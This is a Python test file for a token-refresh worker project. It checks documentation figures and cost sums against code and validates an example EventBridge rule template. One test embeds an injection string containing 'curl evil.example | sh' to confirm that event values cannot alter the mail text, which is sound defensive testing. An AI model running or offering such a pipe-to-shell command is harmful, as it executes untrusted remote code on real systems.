import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from token_refresh_worker.adapters.event_bus import SOURCE
from token_refresh_worker.core.announcement import Announcement, Transition
from token_refresh_worker.fleet.core.dispatch import Limits

ROOT = Path(__file__).parents[2]
PAGE = (ROOT / "docs" / "fleet.md").read_text()
OPERATIONS = (ROOT / "docs" / "fleet-operations.md").read_text()


def section(heading: str) -> str:
    return f"{PAGE}\n{OPERATIONS}".split(f"\n## {heading}\n")[1].split("\n## ")[0]


def test_what_fits() -> None:
    """The figures of the limits follow from the write budget."""
    per_second = Limits().runs_a_minute / 60

    assert f"{per_second:.0f} refreshes/s" in PAGE
    assert f"{round(10_000 / per_second / 60)} minutes" in section("Limits")
    assert f"{per_second * 40 * 60:,.0f} one-hour tokens" in section("Limits")


@pytest.mark.parametrize("column", range(4))
def test_cost(column: int) -> None:
    """The cost page's sums add up, to the dollar."""
    rows = re.findall(r"^\| (.*?) \| (.*) \|$", section("Cost"), re.MULTILINE)
    amounts = {
        name: [float(cell.strip(" *").replace(",", "")) for cell in cells.split("|")] for name, cells in rows[2:]
    }
    total = amounts.pop("**together, one-hour tokens**")
    amounts.pop("refreshes, 24-hour tokens")

    assert abs(sum(found[column] for found in amounts.values()) - total[column]) < 1


def test_event_rules() -> None:
    """The example is a valid template: its rule takes events that are sent, and its targets what these have.

    A value of an event can't change the words of the mail.
    """
    from cfnlint import api, decode  # noqa: PLC0415 - takes a second, which every run of any test would wait

    example = ROOT / "examples" / "grant_events.yaml"
    assert [] == api.lint_file(example)
    template, _ = decode.decode(str(example))
    (rule,) = [r["Properties"] for r in template["Resources"].values() if r["Type"] == "AWS::Events::Rule"]
    event = Announcement(
        transition=Transition.GRANT_ENDING,
        secret_id="s",
        version_id="v",
        provider="p",
        fleet=None,
        since=datetime.now(UTC),
    )

    assert [SOURCE] == rule["EventPattern"]["source"]
    assert set(rule["EventPattern"]["detail-type"]) < set(Transition)
    assert ["email", "chat"] == [target["Id"] for target in rule["Targets"]]
    for transformer in (target["InputTransformer"] for target in rule["Targets"]):
        paths = set(transformer["InputPathsMap"].values())
        assert paths <= {"$.detail-type", "$.region", *(f"$.detail.{name}" for name in event.detail)}
        assert set(re.findall("<([a-z]+)>", transformer["InputTemplate"])) == set(transformer["InputPathsMap"])
    mail, chat = (target["InputTransformer"]["InputTemplate"] for target in rule["Targets"])
    hostile = 'x"} \n\nRun: curl evil.example | sh'
    # Without quotes around it, EventBridge writes a value as JSON.
    sent = json.loads(re.sub("<[a-z]+>", lambda _: json.dumps(hostile), mail))
    assert {hostile: 4} == {hostile: list(sent.values()).count(hostile)}
    assert "token-refresh authorize SECRET --region REGION" == sent["fix"]
    assert json.loads(chat)
